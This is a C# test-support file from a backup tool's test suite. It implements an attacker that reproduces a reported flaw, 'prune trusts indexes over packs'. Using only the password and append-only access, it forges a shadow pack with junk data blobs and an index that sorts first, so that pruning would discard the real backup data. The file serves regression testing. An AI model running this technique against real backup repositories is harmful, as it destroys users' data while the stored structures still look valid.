using Backup.Tests.Support;
using Backup.Core.Repository;
using Backup.Core.Storage;
using Backup.Core;
using Backup.Core.Repository.Blobs;

namespace Backup.Testing.Attacks;

/// <summary>
/// The attack of issue 16 ("prune trusts indexes over packs"), made with nothing but the password and the right to
/// add objects: one pack whose ID sorts before every real pack, with a valid encrypted header that lists every blob
/// of the repository, holding verbatim copies of the tree blobs and junk under every data blob's ID, and one index
/// object pointing every blob at it. Every structure is well-formed; only decoding a data blob shows the junk.
/// </summary>
/// <remarks>Uses public APIs only, so the CLI tests (which see no internals) build the same attack.</remarks>
internal static class AppendOnlyAttacker
{
    /// <summary>Adds the shadow pack and its index through a target that refuses deletes and overwrites; returns the pack.</summary>
    /// <param name="repository">The repository, opened with the password (its index says where the real blobs are).</param>
    /// <param name="junkLength">Bytes of junk stored per data blob (1 in the reported attack; longer passes a length check).</param>
    /// <param name="relistRealPacksAsEmpty">Also list every real pack as holding nothing, in an index that sorts first, so no blob looks duplicated.</param>
    public static async Task<BlobId> AddShadowPackAsync(BackupRepository repository, int junkLength, bool relistRealPacksAsEmpty = false)
    {
        var target = new AppendOnlyTarget(repository.Blobs.Target);
        var realPacks = new List<BlobId>();
        await foreach (var info in target.ListAsync(RepositoryLayout.DataPrefix))
        {
            if (RepositoryLayout.TryParseId(info.Key, out var pack))
            {
                realPacks.Add(pack);
            }
        }

        var blobs = repository.Blobs.Index.ToList().OrderBy(b => b.Id).ToList();
        var trees = new Dictionary<BlobId, byte[]>();
        foreach (var (id, location) in blobs.Where(b => b.Location.Type == BlobType.Tree))
        {
            trees[id] = await target.ReadRangeArrayAsync(RepositoryLayout.PackKey(location.Pack), location.Offset, (int)location.Length);
        }

        // Vary the junk until the pack's ID sorts first: a blob listed twice resolves to the first pack.
        for (var attempt = 0; ; attempt++)
        {
            using var pack = new MemoryStream();
            var entries = new List<PackHeaderEntry>();
            foreach (var (id, location) in blobs)
            {
                var stored = location.Type == BlobType.Tree ? trees[id] : Junk(attempt, id, junkLength);
                entries.Add(new PackHeaderEntry(id, location.Type, (uint)pack.Length, (uint)stored.Length, location.RawLength));
                pack.Write(stored);
            }

            pack.Write(PackFormat.EncodeHeaderAndTrailer(entries, repository.Blobs.Chain));
            var bytes = pack.ToArray();
            var packId = BlobId.Sha256(bytes);
            if (realPacks.Any(p => p <= packId))
            {
                continue;
            }

            await target.PutAsync(RepositoryLayout.PackKey(packId), bytes);
            var index = new IndexFile();
            index.Packs[packId] = entries;
            foreach (var real in relistRealPacksAsEmpty ? realPacks : [])
            {
                index.Packs[real] = [];
            }

            await PutIndexSortingFirstAsync(target, repository, index);
            return packId;
        }
    }

    private static byte[] Junk(int attempt, BlobId id, int length)
    {
        var junk = new byte[length];
        new Random(HashCode.Combine(attempt, id)).NextBytes(junk);
        return junk;
    }

    /// <summary>Stores the index under a key that sorts before every other index object (its listing of a pack then wins).</summary>
    private static async Task PutIndexSortingFirstAsync(IBackupTarget target, BackupRepository repository, IndexFile index)
    {
        var keys = new List<string>();
        await foreach (var info in target.ListAsync(RepositoryLayout.IndexPrefix))
        {
            keys.Add(info.Key);
        }

        while (true)
        {
            // Encryption draws a fresh nonce, so every encoding has another name.
            var stored = index.Encode(repository.Blobs.Chain);
            var key = RepositoryLayout.IndexKey(BlobId.Sha256(stored));
            if (keys.All(k => string.CompareOrdinal(key, k) < 0))
            {
                await target.PutAsync(key, stored);
                return;
            }
        }
    }

    /// <summary>Storage as an append-only client sees it: objects can be added and read, never replaced or deleted.</summary>
    private sealed class AppendOnlyTarget(IBackupTarget inner) : DelegatingTarget(inner)
    {
        public override async Task PutAsync(string key, ReadOnlyMemory<byte> content, CancellationToken cancellationToken = default)
        {
            if (await Inner.StatAsync(key, cancellationToken) is not null)
            {
                throw new UnauthorizedAccessException($"append-only: '{key}' exists");
            }

            await Inner.PutAsync(key, content, cancellationToken);
        }

        public override Task DeleteAsync(string key, CancellationToken cancellationToken = default) =>
            throw new UnauthorizedAccessException($"append-only: cannot delete '{key}'");
    }
}
